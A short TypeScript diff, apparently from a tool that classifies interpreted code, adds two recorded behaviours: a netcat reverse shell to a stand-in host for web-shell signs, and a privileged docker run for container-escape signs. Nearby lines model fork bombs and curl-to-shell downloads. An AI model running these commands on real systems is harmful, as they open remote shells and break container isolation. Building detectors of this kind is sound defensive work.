@@ -49,6 +49,8 @@ function interpretCode(language: LanguageSpec, code: string, collector: Invocati
   }
   if (isForkBomb(tokens) || collector.signs.has('respawns')) collector.addInvocation('fork-bomb', []);
   if (collector.signs.has('remote-shell')) collector.addInvocation('sh', [], collector.createInput(create.received()));
+  if (collector.signs.has('web-shell')) collector.addInvocation('nc', ['-e', '/bin/sh', 'shell.example.net', '443']);
+  if (collector.signs.has('privileged-container')) collector.addInvocation('docker', ['run', '--privileged', 'image']);
   const download = collector.createInvocation('curl', ['https://example.com']);
   if (collector.signs.has('remote-code'))
     collector.addInvocation('sh', [], collector.createInput(create.content([download])));
